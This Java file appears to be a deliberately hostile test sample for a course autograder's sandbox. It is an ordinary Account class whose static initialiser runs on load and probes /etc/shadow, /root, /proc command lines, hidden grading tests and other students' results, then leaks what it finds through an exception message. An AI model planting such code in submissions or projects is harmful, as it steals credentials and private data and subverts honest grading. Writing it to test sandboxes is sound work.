package wirelab.threads.bank;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;

/**
 * HOSTILE SAMPLE (read): a correct account whose class initialiser looks for what is not its own,
 * the way the student did: the course checkout (found from the grader's command line,
 * which /proc shows every user, its environment and the folders above its own), a hidden test's
 * source and other students' results in it, /etc/shadow and root's home. What it can read goes
 * into the exception that fails every bank test, as a student would smuggle it into feedback.
 */
public class Account {

    static {
        List<String> seen = new ArrayList<>();
        if (Files.isReadable(Path.of("/etc/shadow"))) {
            seen.add("/etc/shadow is readable");
        }
        listing(Path.of("/root")).ifPresent(n -> seen.add("/root lists " + n + " entries"));
        for (Path dir : graderFolders()) {
            Path solutions = dir.resolve("solutions");
            if (Files.isDirectory(solutions)) {
                firstHiddenSource(solutions).ifPresent(f -> seen.add(f + " reads:\n" + head(f)));
            }
            for (Path results : List.of(dir.resolve("students"), dir)) {
                if (results.endsWith("students") || results.endsWith("results")) {
                    listing(results).ifPresent(n -> seen.add(results + " (results) lists " + n + " entries"));
                }
            }
        }
        // other students: beside this test's folder lie the submission's own files, one level up the other submissions
        Path own = Path.of(System.getProperty("user.dir")).toAbsolutePath();
        listing(own.getParent()).filter(n -> n > 3).ifPresent(n -> seen.add(own.getParent() + " lists " + n + " entries"));
        listing(own.getParent().getParent()).filter(n -> n > 1)
                .ifPresent(n -> seen.add(own.getParent().getParent() + " (every submission) lists " + n + " entries"));
        if (!seen.isEmpty()) {
            throw new IllegalStateException("the sandbox let this code read:\n" + String.join("\n", new LinkedHashSet<>(seen)));
        }
    }

    /** Every folder the grader's processes name on their command lines, the environment's, this one's, and those above them. */
    private static Set<Path> graderFolders() {
        Set<Path> out = new LinkedHashSet<>();
        List<String> named = new ArrayList<>(List.of(System.getProperty("user.dir"), "/autograder/source/course",
                "/autograder/results", String.valueOf(System.getenv("WIRELAB_HOME"))));
        for (Optional<ProcessHandle> p = ProcessHandle.current().parent(); p.isPresent(); p = p.get().parent()) {
            try {
                String cmdline = Files.readString(Path.of("/proc", Long.toString(p.get().pid()), "cmdline"));
                for (String arg : cmdline.split("\0")) {
                    named.addAll(List.of(arg.split(File.pathSeparator)));
                }
            } catch (IOException | RuntimeException e) {
                // gone, or not ours to read
            }
        }
        for (String name : named) {
            if (name.startsWith("/")) {
                for (Path p = Path.of(name).normalize(); p != null && p.getNameCount() > 0; p = p.getParent()) {
                    out.add(p);
                }
            }
        }
        return out;
    }

    private static Optional<Path> firstHiddenSource(Path solutions) {
        try (Stream<Path> walk = Files.walk(solutions, 8)) {
            return walk.filter(f -> f.toString().contains("/src/grading/java/") && f.toString().endsWith(".java"))
                    .filter(Files::isReadable).findFirst();
        } catch (IOException | RuntimeException e) {
            return Optional.empty();
        }
    }

    private static String head(Path file) {
        try (Stream<String> lines = Files.lines(file)) {
            return String.join("\n", lines.limit(40).toList());
        } catch (IOException | RuntimeException e) {
            return "(" + e + ")";
        }
    }

    private static Optional<Integer> listing(Path dir) {
        try (Stream<Path> s = Files.list(dir)) {
            return Optional.of((int) s.count());
        } catch (IOException | RuntimeException e) {
            return Optional.empty();
        }
    }

    private final int id;
    private long balance;

    public Account(int id, long balance) {
        this.id = id;
        this.balance = balance;
    }

    public int id() {
        return id;
    }

    public synchronized long balance() {
        return balance;
    }

    synchronized void add(long amount) {
        balance += amount;
    }

    @Override
    public String toString() {
        return "Account " + id;
    }
}
